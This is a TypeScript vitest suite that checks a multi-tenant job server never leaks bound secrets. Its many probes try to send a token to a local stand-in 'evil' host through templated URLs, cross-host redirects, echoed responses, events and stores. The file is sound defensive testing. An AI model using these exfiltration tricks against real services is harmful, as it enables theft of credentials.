import { randomBytes } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Json, JsonObject } from "../../../src/lib/json.ts";
import { keyOf, newSecret, newTenant, type Tenant } from "../../../tooling/fuzz/tenants.ts";
import { toolCall } from "../../../tooling/raw.ts";
import type { RunningServer } from "../../../tooling/servers/running-server.ts";
import { startServer } from "../../../tooling/servers/workerd-server.ts";
import { finder, hex, looksLike, PLACES, SPELLINGS } from "../../egress/secret-places.ts";

/** Every way to get a secret out of the real server, by a tenant that may use some: none leaves, and none is stored. */

const AUTH_SECRET = newSecret();
const random = (): string => randomBytes(8).toString("hex");
const VALUES = {
  TOKEN: `k9/Zq+"7 &_${random()}`,
  /** Only another tenant's. */
  THEIRS: `t5 "=/${random()}`,
  /** Only for inbound signatures. */
  INBOUND: `whsec_${random()}`,
};
const HOOK_PATH = `services/T0/${random()}`;
/** That the tenant sets for itself. */
const OWN = `o3 +"/${random()}`;
/** Of the operator's, for traces alone. */
const OTLP = `otlp-${random()}`;
const found = finder([...Object.values(VALUES), HOOK_PATH, OWN]);
const foundOtlp = finder([OTLP]);

const listen = async (
  handle: (request: IncomingMessage, response: ServerResponse) => void,
): Promise<[Server, string]> => {
  const service = createServer(handle);
  await new Promise<void>((resolve) => service.listen(0, "127.0.0.1", resolve));
  return [service, `127.0.0.1:${(service.address() as AddressInfo).port}`];
};

const ECHOES: Record<string, (said: string, response: ServerResponse) => void> = {
  text: (said, response) => response.end(`You sent ${said}.`),
  json: (said, response) =>
    response.setHeader("content-type", "application/json").end(JSON.stringify({ a: [{ said }] })),
  key: (said, response) => response.setHeader("content-type", "application/json").end(JSON.stringify({ [said]: 1 })),
  html: (said, response) => response.setHeader("content-type", "text/html").end(`<p title="${said}">`),
  error: (said, response) => response.writeHead(400).end(`${"x".repeat(190)}${said}`),
  again: (said, response) => response.writeHead(503).end(said),
  headers: (said, response) =>
    response.writeHead(200, { "x-echo": encodeURI(said), "set-cookie": `t=${encodeURIComponent(said)}` }).end(),
  reason: (said, response) => response.writeHead(404, encodeURIComponent(said)).end(),
};

/** What the host that secrets are bound to was sent, what any other host was, and what the operator's traces say. */
const sent = { ours: [] as string[], evil: [] as string[], traces: [] as string[] };
let services: Server[] = [];
let ours = "";
let evil = "";
let server: RunningServer;
let acme: Tenant;
let globex: Tenant;
let probes = 0;
/** All that was answered to anybody. */
const replies: string[] = [];

const note = async (list: string[], request: IncomingMessage): Promise<void> => {
  list.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${await text(request)}`);
};

/** `/echo/<kind>/<spelling>/<name>` says the secret; `/to/<status>/<way>` sends on to the other host; the rest is data. */
function answerAsOurs(path: string, response: ServerResponse): void {
  const [, what, first = "", second = "", name = ""] = path.split("/").map(decodeURIComponent);
  const spoken = { HOOK: `http://${ours}/${HOOK_PATH}`, OWN }[name] ?? VALUES.TOKEN;
  const ways = ["", `?t=${encodeURIComponent(spoken)}`, hex(spoken)];
  if (what === "echo") ECHOES[first]?.(SPELLINGS[second]?.(spoken) ?? spoken, response);
  else if (what === "to")
    response.writeHead(Number(first), { location: `http://${evil}/${ways[Number(second)]}` }).end();
  else response.setHeader("content-type", "application/json").end(JSON.stringify(looksLike("TOKEN", "HOOK")));
}

beforeAll(async () => {
  const [good, goodHost] = await listen((request, response) => {
    void note(sent.ours, request).then(() => answerAsOurs(request.url ?? "", response));
  });
  const [bad, badHost] = await listen((request, response) => {
    void note(sent.evil, request).then(() => response.end("caught"));
  });
  const [collector, collectorHost] = await listen((request, response) => {
    void note(sent.traces, request).then(() => response.end("{}"));
  });
  services = [good, bad, collector];
  [ours, evil] = [goodHost, badHost];
  server = await startServer({
    AUTH_SECRET,
    ...VALUES,
    HOOK: `http://${ours}/${HOOK_PATH}`,
    BLUEPRINT_SECRETS: `TOKEN@${ours},HOOK@${ours},THEIRS@${ours}#globex,INBOUND@webhook`,
    HTTP_ALLOW: `${ours},${evil}`,
    SUBMITS_PER_MINUTE: "0",
    TEXT_SEARCH: "on",
    OTEL_EXPORTER_OTLP_ENDPOINT: `http://${collectorHost}`,
    OTEL_EXPORTER_OTLP_HEADERS: `x-collector=${OTLP}`,
  });
  acme = await newTenant(server.url, "acme", AUTH_SECRET);
  globex = await newTenant(server.url, "globex", AUTH_SECRET);
});

afterAll(async () => {
  await server?.stop();
  for (const service of services) {
    service.closeAllConnections();
    await new Promise((done) => service.close(done));
  }
});

async function ask(tenant: Tenant, tool: string, args: JsonObject): Promise<JsonObject> {
  const { message, bytes } = await tenant.send(toolCall(tool, args));
  replies.push(bytes);
  return (message.result ?? {}) as JsonObject;
}

async function api(method: string, path: string, body?: JsonObject): Promise<string> {
  const headers = { authorization: `Bearer ${await keyOf("acme", AUTH_SECRET)}`, ...JSON_TYPE };
  const answered = await fetch(server.url + path, { method, headers, ...(body && { body: JSON.stringify(body) }) });
  const said = await answered.text();
  replies.push(said);
  return said;
}

/** Where the tenant's events are now. */
async function place(): Promise<string> {
  const { structuredContent } = await ask(acme, "events_read", {});
  return String((structuredContent as JsonObject).next_cursor);
}

/** Runs all of the probes as steps of one job, each whatever comes of the others, and reads all that it shows. */
async function runAll(tenant: Tenant, steps: JsonObject[], more: JsonObject = {}): Promise<void> {
  probes += steps.length;
  const http = { type: "http", url: `http://${ours}/data`, retry: { limit: 0 } };
  const all = steps.map((step, i) => ({
    ...{ id: `p${i}`, on_error: "continue" },
    ...(step.type === undefined && http),
    ...step,
  }));
  const blueprint = { name: "probes", steps: all, output: "{% $steps %}" };
  const args = { blueprint, wait_seconds: 50, ...more };
  const { structuredContent } = await ask(tenant, "jobs_submit_blueprint", args);
  const { id, status } = structuredContent as JsonObject;
  expect(status).toBe("succeeded");
  await ask(tenant, "jobs_get_status", { job_id: String(id), include: ["steps", "events"] });
  await ask(tenant, "jobs_get_result", { job_id: String(id), max_bytes: 100_000 });
}

const everyPlace = <T>(each: (put: (value: Json) => JsonObject, place: string) => T[]): T[] =>
  Object.entries(PLACES).flatMap(([place, put]) => each(put, place));

const TOKEN = { secret: "TOKEN" };
const JSON_TYPE = { "content-type": "application/json" };
const FAULT = /a secret cannot stand here/;

describe("secrets on the real server", () => {
  it("are sent where the blueprint names them, and to the host that they are bound to", async () => {
    await runAll(acme, [...everyPlace((put) => [put(TOKEN)]), { url: { secret: "HOOK" } }]);
    await runAll(globex, [{ headers: { "x-a": { secret: "THEIRS" } } }]);
    expect(found(sent.ours).length).toBeGreaterThan(4);
    expect(sent.ours.join()).toContain(VALUES.THEIRS.replaceAll('"', '\\"'));
    sent.ours.length = 0;
  });

  it("are no data that looks like them, of an input or of an answer, wherever it stands", async () => {
    const looks = looksLike("TOKEN", "HOOK");
    const input = { looks };
    for (const host of [ours, evil]) {
      const url = `http://${host}/x`;
      await runAll(
        acme,
        everyPlace((put) => looks.map((_, i) => ({ ...put(`{% $input.looks[${i}] %}`), url }))),
        { input },
      );
    }
    expect(found(sent.ours)).toEqual([]);
    const answered = everyPlace((put) =>
      looks.map((_, i) => ({ ...put(`{% $steps.said.body[${i}] %}`), url: `http://${evil}/x` })),
    );
    await runAll(acme, [{ id: "said" }, ...answered]);
  });

  it("go to no host that they are not bound to, whatever names the host", async () => {
    const input = { url: `http://${evil}/`, port: evil.split(":")[1] ?? "", hosts: [evil] };
    const urls = ["{% $input.url %}", "{% 'http://' & $input.hosts[0] & '/x' %}", "{% $url($input.url, 'y') %}"];
    await runAll(
      acme,
      everyPlace((put) => urls.map((url) => ({ ...put(TOKEN), url }))),
      { input },
    );
    const rows = everyPlace((put) => [{ over: [input.url], step: { ...put(TOKEN), url: "{% $item %}" } }]);
    await runAll(
      acme,
      rows.map(({ over, step }, i) => ({
        ...{ type: "map", over },
        steps: [{ id: `r${i}`, type: "http", retry: { limit: 0 }, ...step }],
      })),
    );
  });

  it("follow no redirect to another host, and do not go along in its Location", async () => {
    const to = [301, 302, 303, 307, 308].flatMap((status) =>
      [0, 1, 2].map((way) => `http://${ours}/to/${status}/${way}`),
    );
    for (const put of Object.values(PLACES))
      await runAll(
        acme,
        to.map((url) => ({ ...put(TOKEN), url })),
      );
  });

  it("are neither stored nor shown when a service repeats them, in any spelling", async () => {
    for (const kind of Object.keys(ECHOES)) {
      const echoes = Object.keys(SPELLINGS).flatMap((spelling) =>
        ["TOKEN", "HOOK"].map((name) => ({
          url: `http://${ours}/echo/${kind}/${encodeURIComponent(spelling)}/${name}`,
          headers: { "x-a": TOKEN },
        })),
      );
      await runAll(acme, echoes);
    }
  });

  it("of others, and of another use, are refused at submit as unknown, wherever they stand", async () => {
    const names = ["THEIRS", "INBOUND", "AUTH_SECRET", "NOPE"];
    for (const step of everyPlace((put) => names.map((secret) => put({ secret })))) {
      probes += 1;
      const call = { id: "call", type: "http", url: `http://${ours}/x`, ...step };
      const blueprint = { name: "probe", steps: [call] };
      for (const [tool, args] of [
        ["jobs_submit_blueprint", { blueprint }],
        ["blueprints_save", { blueprint }],
      ] as const) {
        const refused = await ask(acme, tool, args);
        expect(refused.isError).toBe(true);
        expect(JSON.stringify(refused)).toMatch(/Use one of TOKEN \(for [\d.:]+\); HOOK \(for [\d.:]+\)\./);
      }
    }
  });

  it("are a fault in every field that is data, by whichever call the plan comes", async () => {
    const steps = [{ id: "t", type: "transform", value: 1 }];
    const fields: ((value: Json) => JsonObject)[] = [
      (a) => ({ type: "transform", value: { a } }),
      (a) => ({ type: "emit", event: "probe.told", data: { a } }),
      (a) => ({ type: "store", key: "k", value: { a } }),
      (a) => ({ type: "worker", queue: "q", input: { a } }),
      (a) => ({ type: "job", blueprint: { name: "child", steps }, input: { a } }),
      (a) => ({ type: "map", over: [a], steps }),
      (a) => ({ type: "repeat", state: { a }, limit: 1, steps }),
      (a) => ({ type: "end", as: "succeeded", output: { a } }),
    ];
    for (const field of fields) {
      const blueprint = { name: "probe", steps: [{ id: "a", ...field(TOKEN) }] };
      for (const [tool, args] of [
        ["jobs_submit_blueprint", { blueprint }],
        ["jobs_submit_blueprint", { blueprint, inputs: [{}] }],
        ["blueprints_save", { blueprint }],
        ["triggers_save", { name: "probe", schedule: { every: "1 hour" }, blueprint }],
        ["jobs_bulk", { action: "retry", where: {}, patch: { blueprint } }],
      ] as [string, JsonObject][]) {
        probes += 1;
        const refused = await ask(acme, tool, args);
        expect(refused.isError, `${tool} ${JSON.stringify(field(TOKEN))}`).toBe(true);
        expect(JSON.stringify(refused)).toMatch(FAULT);
      }
    }
    const inBulk = {
      name: "probe",
      steps: [{ id: "a", type: "http", url: `http://${evil}/x`, headers: { "x-a": TOKEN } }],
    };
    const refused = await ask(acme, "jobs_bulk", { action: "retry", where: {}, patch: { blueprint: inBulk } });
    expect(JSON.stringify(refused)).toContain("may not be sent to");
  });

  it("are no data of an event, an answer, a link, a batch or a correction that looks like them", async () => {
    const looks = looksLike("TOKEN", "HOOK");
    const asking = (from: string): JsonObject[] =>
      everyPlace((put) => looks.map((_, i) => put(`{% ${from}[${i}] %}`))).map((step, i) => ({
        ...{ id: `e${i}`, type: "http", url: `http://${evil}/x`, retry: { limit: 0 }, on_error: "continue" },
        ...step,
      }));
    const told = { name: "told", steps: asking("$input.event.data.looks") };
    await ask(acme, "triggers_save", { name: "probe", event: { name: "probe.told" }, blueprint: told });
    const cursor = await place();
    await runAll(acme, [
      { id: "said" },
      { type: "emit", event: "probe.told", data: { looks: "{% $steps.said.body %}" } },
    ]);
    const read = { cursor, names: ["job.settled"], trigger: "probe", wait_seconds: 50 };
    const { structuredContent: events } = await ask(acme, "events_read", read);
    expect(events).toMatchObject({ events: [{ data: { trigger: "probe", status: "succeeded" } }] });

    const question = {
      id: "q",
      type: "input",
      message: "?",
      schema: { type: "object", properties: { looks: {} } },
      link: true,
    };
    const answered = { name: "answered", steps: [question, ...asking("$steps.q.content.looks")] };
    for (const way of ["tool", "link"]) {
      const asked = await ask(acme, "jobs_submit_blueprint", { blueprint: answered, wait_seconds: 20 });
      const id = String((asked.structuredContent as JsonObject).id);
      const { input_requests } = JSON.parse(await api("GET", `/api/v1/jobs/${id}`));
      const [{ request_id, url }] = input_requests as [{ request_id: string; url: string }];
      const content = { looks };
      if (way === "tool") await ask(acme, "jobs_respond", { job_id: id, request_id, action: "accept", content });
      else await fetch(url, { method: "POST", headers: JSON_TYPE, body: JSON.stringify(content) });
      const { structuredContent: done } = await ask(acme, "jobs_wait", { job_ids: [id], timeout_seconds: 50 });
      expect(done, way).toMatchObject({ jobs: [{ status: "succeeded" }] });
    }
    const blueprint = { name: "batched", steps: asking("$input.looks") };
    const metadata = { secret: "TOKEN" };
    const batch = await ask(acme, "jobs_submit_blueprint", { blueprint, inputs: [{ looks }, { looks }], metadata });
    const { batch_id } = batch.structuredContent as JsonObject;
    await ask(acme, "jobs_wait", { batch_id: String(batch_id), timeout_seconds: 50 });
    probes += 5 * asking("").length;
  });

  it("that come back are in no event, store, search, error, trace, statistic or audit, the tenant's own neither", async () => {
    await api("PUT", "/api/v1/secrets/OWN", { value: OWN, hosts: [ours] });
    const cursor = await place();
    for (const name of ["TOKEN", "HOOK", "OWN"]) {
      const echoes = Object.keys(SPELLINGS).flatMap((spelling, i) => {
        const said = `$steps.echo${i}.body`;
        const url = `http://${ours}/echo/text/${encodeURIComponent(spelling)}/${name}`;
        return [
          { id: `echo${i}`, url, headers: { "x-a": { secret: name } } },
          { type: "emit", event: "probe.echoed", data: { said: `{% ${said} %}` } },
          { type: "store", key: `${name}-${i}`, value: `{% ${said} %}` },
          { type: "transform", value: `{% $error(${said}) %}` },
        ];
      });
      await runAll(acme, echoes, { name: `echo ${name}` });
      const failing = {
        name: "fails",
        steps: [
          { id: "f", type: "http", url: `http://${ours}/echo/error/hex/${name}`, headers: { "x-a": { secret: name } } },
        ],
      };
      await ask(acme, "jobs_submit_blueprint", { blueprint: failing, wait_seconds: 20 });
    }
    const { structuredContent: told } = await ask(acme, "events_read", { cursor, names: ["probe.echoed"], limit: 100 });
    expect((told as { events: unknown[] }).events.length).toBeGreaterThan(20);
    expect(JSON.stringify(told)).toContain("[secret OWN]");
    await ask(acme, "jobs_list", { text: "echo" });
    for (const path of ["metrics", "audit", "stats", "secrets", "events?limit=100"])
      await api("GET", `/api/v1/${path}`);
    await expect.poll(() => sent.traces.join()).toContain("fails");
    expect(sent.traces.join()).toContain(OTLP);
    expect(found(sent.traces)).toEqual([]);
  });

  it("left for nobody else and are stored nowhere, in more than 300 probes", () => {
    expect(probes).toBeGreaterThan(300);
    expect(sent.evil.length).toBeGreaterThan(100);
    expect(found(sent.evil)).toEqual([]);
    for (const texts of [replies, [server.log()]]) expect([...found(texts), ...foundOtlp(texts)]).toEqual([]);
    const files = readdirSync(server.stateDir, { recursive: true, withFileTypes: true }).filter((entry) =>
      entry.isFile(),
    );
    const stored = files.map(({ parentPath, name }) => readFileSync(join(parentPath, name), "latin1"));
    expect(stored.join()).toContain("[secret TOKEN]");
    expect([...found(stored), ...foundOtlp(stored)]).toEqual([]);
  });
});
